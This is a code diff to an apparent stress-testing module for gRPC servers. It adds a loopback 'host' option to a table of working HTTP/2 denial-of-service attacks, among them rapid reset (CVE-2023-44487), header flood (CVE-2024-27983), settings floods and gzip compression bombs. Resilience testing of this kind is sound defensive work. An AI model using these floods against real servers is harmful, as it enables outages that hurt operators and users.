@@ -7,6 +7,7 @@ import { Attacker, callHeaders, FLAG, field, frame, grpcMessage, TYPE, uint32 } 
  * What is attacked.
  * @typedef {object} Target
  * @property {number} port
+ * @property {string} [host] where the attack comes from: an address of loopback
  * @property {string} path a unary method
  * @property {Readonly<Record<string, string>>} [headers] that a call needs
  * @property {() => Buffer} request a request that is answered
@@ -31,15 +32,15 @@ async function flood(attacker, count, make) {
 /** @type {Readonly<Record<string, (target: Target, size: number) => Promise<Attacker[]>>>} */
 export const ATTACKS = {
   /** Streams that are opened, and nothing more. */
-  "idle streams": async ({ port, path, headers }, size) => {
-    const attacker = new Attacker(port);
+  "idle streams": async ({ port, host, path, headers }, size) => {
+    const attacker = new Attacker(port, { host });
     const block = callHeaders(path, headers);
     await flood(attacker, size, () => frame(HEADERS, FLAG.END_HEADERS, attacker.stream(), block));
     return [attacker];
   },
   /** The same, within the limit of each of many connections. */
-  "idle streams on many connections": async ({ port, path, headers }, size) => {
-    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port));
+  "idle streams on many connections": async ({ port, host, path, headers }, size) => {
+    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port, { host }));
     for (const attacker of attackers) {
       await attacker.connected;
       for (let i = 0; i < 32; i++) attacker.begin(path, headers);
@@ -47,8 +48,11 @@ export const ATTACKS = {
     return attackers;
   },
   /** Requests whose replies are not read: the window is closed. */
-  "replies never read": async ({ port, path, headers, request }, size) => {
-    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port, { window: 0 }));
+  "replies never read": async ({ port, host, path, headers, request }, size) => {
+    const attackers = Array.from(
+      { length: Math.ceil(size / 32) },
+      () => new Attacker(port, { host, window: 0 }),
+    );
     for (const attacker of attackers) {
       await attacker.connected;
       for (let i = 0; i < 32; i++)
@@ -57,8 +61,8 @@ export const ATTACKS = {
     return attackers;
   },
   /** A long message, byte by byte. */
-  "one-byte frames": async ({ port, path, headers }, size) => {
-    const attackers = Array.from({ length: 4 }, () => new Attacker(port));
+  "one-byte frames": async ({ port, host, path, headers }, size) => {
+    const attackers = Array.from({ length: 4 }, () => new Attacker(port, { host }));
     await Promise.all(
       attackers.map(async (attacker) => {
         await attacker.connected;
@@ -71,8 +75,8 @@ export const ATTACKS = {
     return attackers;
   },
   /** Messages that end in the middle. */
-  "half messages": async ({ port, path, headers, request }, size) => {
-    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port));
+  "half messages": async ({ port, host, path, headers, request }, size) => {
+    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port, { host }));
     for (const attacker of attackers) {
       await attacker.connected;
       for (let i = 0; i < 32; i++) {
@@ -83,14 +87,14 @@ export const ATTACKS = {
     return attackers;
   },
   /** Connections that say nothing. */
-  "silent sockets": async ({ port }, size) => {
-    const attackers = Array.from({ length: size }, () => new Attacker(port, { isSilent: true }));
+  "silent sockets": async ({ port, host }, size) => {
+    const attackers = Array.from({ length: size }, () => new Attacker(port, { host, isSilent: true }));
     await Promise.all(attackers.map(({ connected, closed }) => Promise.race([connected, closed])));
     return attackers;
   },
   /** Calls that are cancelled as soon as they begin (CVE-2023-44487). */
-  "rapid reset": async ({ port, path, headers }, size) => {
-    const attacker = new Attacker(port);
+  "rapid reset": async ({ port, host, path, headers }, size) => {
+    const attacker = new Attacker(port, { host });
     const block = callHeaders(path, headers);
     await flood(attacker, size, () => {
       const stream = attacker.stream();
@@ -102,8 +106,8 @@ export const ATTACKS = {
     return [attacker];
   },
   /** A header block without an end (CVE-2024-27983). */
-  "header flood": async ({ port, path }, size) => {
-    const attacker = new Attacker(port);
+  "header flood": async ({ port, host, path }, size) => {
+    const attacker = new Attacker(port, { host });
     await attacker.connected;
     attacker.send(frame(HEADERS, 0, attacker.stream(), callHeaders(path)));
     const more = field("x-flood", "a".repeat(1_000));
@@ -111,16 +115,16 @@ export const ATTACKS = {
     return [attacker];
   },
   /** Settings and pings, each of which wants an answer. */
-  "settings flood": async ({ port }, size) => {
-    const attacker = new Attacker(port);
+  "settings flood": async ({ port, host }, size) => {
+    const attacker = new Attacker(port, { host });
     await flood(attacker, size, (i) =>
       i % 2 === 0 ? frame(SETTINGS, 0, 0) : frame(PING, 0, 0, Buffer.alloc(8)),
     );
     return [attacker];
   },
   /** Calls with 60 KB of headers each. */
-  "huge headers": async ({ port, path }, size) => {
-    const attacker = new Attacker(port);
+  "huge headers": async ({ port, host, path }, size) => {
+    const attacker = new Attacker(port, { host });
     const blocks = [
       callHeaders(path),
       ...Array.from({ length: 60 }, (_, i) => field(`x-${i}`, "a".repeat(1_000))),
@@ -139,8 +143,8 @@ export const ATTACKS = {
     return [attacker];
   },
   /** Compressed messages that unpack to a thousand times their size. */
-  "compressed bombs": async ({ port, path, headers }, size) => {
-    const attacker = new Attacker(port);
+  "compressed bombs": async ({ port, host, path, headers }, size) => {
+    const attacker = new Attacker(port, { host });
     const bomb = grpcMessage(gzipSync(Buffer.alloc(10_000_000)), true);
     const block = callHeaders(path, { ...headers, "grpc-encoding": "gzip" });
     await flood(attacker, size, () => {
